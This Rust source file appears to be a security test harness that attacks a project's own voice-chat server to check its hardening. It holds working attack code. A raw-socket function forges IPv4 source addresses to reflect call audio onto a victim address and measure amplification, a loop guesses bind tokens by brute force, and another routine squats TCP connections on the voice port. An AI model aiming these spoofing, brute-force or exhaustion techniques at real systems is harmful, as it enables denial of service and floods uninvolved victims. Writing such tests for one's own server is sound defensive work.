//! The voice attacks (items 8-9 of the hardening issue): a bind from a
//! forged source address (reflection onto a victim, then token guessing),
//! and TCP connections to the voice port that never bind. Honest members
//! use chatvoice's own link, so these follow the real bind handshake.

use std::net::{SocketAddr, UdpSocket};
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use chatcore::protocol::voice::seal::bind_mac;
use chatcore::protocol::voice::{AUDIO_HEADER_LEN, TAG_LEN, VoiceJoined, VoicePacket};
use chatcore::protocol::{ClientMessage, ServerMessage};
use chatvoice::transport::{CallKeys, LinkOptions, VoiceLink};
use serde_json::{Value, json};

use super::Scale;
use crate::attack::{Target, attacker_stream, ms, rand_u64, round2};

fn voice_member(target: &Target, name: &str) -> Result<(chatcore::Client, VoiceJoined)> {
    let client = chatcore::Client::connect_plain(target.chat, name)?;
    client.send(&ClientMessage::VoiceJoin)?;
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        if let Some(chatcore::Event::Message(ServerMessage::VoiceJoined(j))) =
            client.recv_timeout(Duration::from_millis(200))?
        {
            return Ok((client, j));
        }
    }
    bail!("no voice_joined for {name}")
}

/// Takes the `later` `voice_key`s a member is sent when that many members
/// join after it (each join starts a new key epoch) into its keys.
fn catch_up(client: &chatcore::Client, keys: &CallKeys, later: usize) -> Result<()> {
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut seen = 0;
    while seen < later && Instant::now() < deadline {
        if let Some(chatcore::Event::Message(ServerMessage::VoiceKey(k))) =
            client.recv_timeout(Duration::from_millis(200))?
        {
            keys.set_key(k.epoch, &k.key)?;
            seen += 1;
        }
    }
    Ok(())
}

/// Binds an honest call member the way the real client does (chatvoice's
/// link: UDP, else TCP with `force_tcp`), so the scenarios keep working
/// when the bind handshake changes.
fn honest_link(voice: SocketAddr, j: &VoiceJoined, force_tcp: bool) -> Result<VoiceLink> {
    honest_link_with(voice, j, force_tcp).map(|(link, _)| link)
}

/// [`honest_link`], also returning the call keys it seals with.
fn honest_link_with(
    voice: SocketAddr,
    j: &VoiceJoined,
    force_tcp: bool,
) -> Result<(VoiceLink, Arc<CallKeys>)> {
    let opts = LinkOptions {
        force_tcp,
        ..LinkOptions::default()
    };
    let keys = Arc::new(CallKeys::from_joined(j)?);
    let link = VoiceLink::connect(
        voice,
        j.session,
        &j.token,
        j.keepalive_ms,
        keys.clone(),
        &opts,
    )
    .with_context(|| format!("binding session {}", j.session))?;
    Ok((link, keys))
}

/// Sends one voice packet the way the attacker can (forged or bound).
type SendFn = Box<dyn Fn(&[u8]) -> Result<()>>;

/// One UDP datagram from a forged source, through a raw socket (root):
/// IPv4 header with `src`, UDP header with checksum 0 (allowed on IPv4).
fn spoofed_send(
    raw: &socket2::Socket,
    src: SocketAddr,
    dst: SocketAddr,
    payload: &[u8],
) -> Result<()> {
    let (SocketAddr::V4(s), SocketAddr::V4(d)) = (src, dst) else {
        bail!("IPv4 only");
    };
    let udp_len = 8 + payload.len();
    let total = 20 + udp_len;
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]); // id, DF, ttl, UDP, checksum
    p.extend_from_slice(&s.ip().octets());
    p.extend_from_slice(&d.ip().octets());
    let mut sum: u32 = p
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let ck = !(sum as u16);
    p[10..12].copy_from_slice(&ck.to_be_bytes());
    p.extend_from_slice(&s.port().to_be_bytes());
    p.extend_from_slice(&d.port().to_be_bytes());
    p.extend_from_slice(&(udp_len as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    raw.send_to(&p, &dst.into())?;
    Ok(())
}

/// Item 8. The attacker joins the call and binds its session to the
/// victim's address (a forged source: a raw socket as root, else a socket
/// bound to the victim's 127.0.0.2 address standing for the forgery); a few
/// honest members talk; the victim, who never asked, counts what it gets.
/// Then token guesses from one source at full speed: how many per second
/// the server takes, and whether a right token still binds afterwards.
pub(super) fn voice_spoof(target: &mut Target, scale: Scale) -> Result<Value> {
    let voice = target
        .voice
        .context("voice-spoof needs the voice port (--voice or --spawn-server)")?;
    let hold = scale.hold(15.0);
    let speakers_n = scale.count(8).min(30);
    let victim = UdpSocket::bind("127.0.0.2:0").context("binding the victim on 127.0.0.2")?;
    victim.set_read_timeout(Some(Duration::from_millis(100)))?;
    let victim_addr = victim.local_addr()?;
    let (_attacker, aj) = voice_member(target, "spoofer")?;
    let bind = VoicePacket::Bind {
        session: aj.session,
        mac: bind_mac(&aj.token, aj.session, None),
        // What an attacker without the victim's challenge can send.
        cookie: None,
    }
    .to_vec();
    let raw = socket2::Socket::new(
        socket2::Domain::IPV4,
        socket2::Type::from(3),             // SOCK_RAW
        Some(socket2::Protocol::from(255)), // IPPROTO_RAW: we write the IP header
    );
    let (method, spoof): (&str, SendFn) = match raw {
        Ok(raw) => (
            "raw socket, forged IPv4 source",
            Box::new(move |b: &[u8]| spoofed_send(&raw, victim_addr, voice, b)),
        ),
        Err(_) => {
            let v = victim.try_clone()?;
            (
                "socket bound to the victim's address (not root)",
                Box::new(move |b: &[u8]| {
                    v.send_to(b, voice)?;
                    Ok(())
                }),
            )
        }
    };
    let mut spoofed_bytes = 0u64;
    spoof(&bind)?;
    spoofed_bytes += bind.len() as u64;
    // Did the server answer the forged bind (to the victim)?
    let mut buf = [0u8; 2048];
    let bound_answer = matches!(
        victim
            .recv(&mut buf)
            .map(|n| VoicePacket::parse(&buf[..n]).map(|p| matches!(p, VoicePacket::Bound { .. }))),
        Ok(Ok(true))
    );
    let mut speakers = Vec::new();
    for i in 0..speakers_n {
        let (c, j) = voice_member(target, &format!("talker{i}"))?;
        let (link, keys) = honest_link_with(voice, &j, false)?;
        speakers.push((c, link.sender(), link, keys));
    }
    // Everyone seals with the newest key, as live clients would.
    for (i, (c, _, _, keys)) in speakers.iter().enumerate() {
        catch_up(c, keys, speakers_n - 1 - i)?;
    }
    let payload = vec![0x5a; 400];
    let t = Instant::now();
    let mut victim_bytes = 0u64;
    let mut victim_packets = 0u64;
    let mut n = 0u32;
    let _ = victim.set_nonblocking(true);
    while t.elapsed() < hold {
        for (_, sender, _, _) in &speakers {
            let _ = sender.send_audio(n.wrapping_mul(960), &payload);
        }
        if n.is_multiple_of(50) {
            // The attacker's keepalive, forged too.
            let probe = VoicePacket::Probe {
                session: aj.session,
                nonce: n,
            }
            .to_vec();
            spoof(&probe)?;
            spoofed_bytes += probe.len() as u64;
        }
        n += 1;
        let next = t + Duration::from_millis(20) * n;
        while Instant::now() < next {
            while let Ok(k) = victim.recv(&mut buf) {
                victim_bytes += k as u64;
                victim_packets += 1;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let spoof_secs = t.elapsed().as_secs_f64();
    let spoken =
        u64::from(n) * speakers.len() as u64 * (AUDIO_HEADER_LEN + payload.len() + TAG_LEN) as u64;
    drop(speakers);
    // Token guesses from one source, as fast as we can send them.
    let (_guesser, gj) = voice_member(target, "guesser")?;
    let g = UdpSocket::bind("127.0.0.1:0")?;
    g.connect(voice)?;
    let guess_for = Duration::from_secs_f64(hold.as_secs_f64().min(2.0));
    let cpu0 = target.pid.and_then(crate::attack::cpu_secs);
    let t = Instant::now();
    let mut guesses = 0u64;
    while t.elapsed() < guess_for {
        for _ in 0..256 {
            let mut mac = [0u8; 16];
            mac[..8].copy_from_slice(&rand_u64().to_le_bytes());
            mac[8..].copy_from_slice(&rand_u64().to_le_bytes());
            let p = VoicePacket::Bind {
                session: gj.session,
                mac,
                cookie: None,
            }
            .to_vec();
            if g.send(&p).is_ok() {
                guesses += 1;
            }
        }
    }
    let gsecs = t.elapsed().as_secs_f64();
    let cpu = match (cpu0, target.pid.and_then(crate::attack::cpu_secs)) {
        (Some(a), Some(b)) => Some(round2((b - a) / gsecs)),
        _ => None,
    };
    // Does the right token still bind from the guessing address (its IP;
    // the real client's link, so a changed bind handshake is followed)?
    let still_binds = match honest_link(voice, &gj, false) {
        Ok(link) => {
            link.close();
            true
        }
        Err(_) => false,
    };
    drop(g);
    Ok(json!({
        "attack": "bind with a forged source address, then the call talks",
        "method": method,
        "forged_bind_answered_bound_to_victim": bound_answer,
        "speakers": speakers_n,
        "seconds": round2(spoof_secs),
        "spoofed_bytes_sent": spoofed_bytes,
        "audio_bytes_spoken": spoken,
        "victim_bytes_received": victim_bytes,
        "victim_packets_received": victim_packets,
        "amplification": round2(victim_bytes as f64 / spoofed_bytes.max(1) as f64),
        "token_guesses_sent": guesses,
        "token_guesses_per_s": (guesses as f64 / gsecs).round(),
        "server_cpu_share_during_guesses": cpu,
        "right_token_binds_from_that_ip_after_guessing": still_binds,
    }))
}

/// Item 9. TCP connections to the voice port that never bind; then a real
/// call member tries to bind over TCP.
pub(super) fn voice_tcp_squat(target: &mut Target, scale: Scale) -> Result<Value> {
    let voice = target
        .voice
        .context("voice-tcp-squat needs the voice port")?;
    let n = scale.count(70);
    let hold = scale.hold(2.0);
    let mut socks = Vec::new();
    for _ in 0..n {
        if let Ok(s) = attacker_stream(voice, Duration::from_millis(500)) {
            socks.push(s);
        }
    }
    std::thread::sleep(hold);
    let mut alive = 0;
    for s in &socks {
        let _ = s.set_nonblocking(true);
        let mut b = [0u8; 8];
        if let Err(e) = std::io::Read::read(&mut &*s, &mut b)
            && e.kind() == std::io::ErrorKind::WouldBlock
        {
            alive += 1;
        }
    }
    let (_member, j) = voice_member(target, "tcpvoice")?;
    let t = Instant::now();
    let outcome = match honest_link(voice, &j, true) {
        Ok(link) => {
            let took = ms(t.elapsed());
            link.close();
            format!("bound in {took} ms")
        }
        Err(e) => format!("failed: {e:#}"),
    };
    drop(socks);
    Ok(json!({
        "attack": "TCP connections to the voice port that never bind",
        "connections": n,
        "still_open_after_hold": alive,
        "real_tcp_bind": outcome,
    }))
}
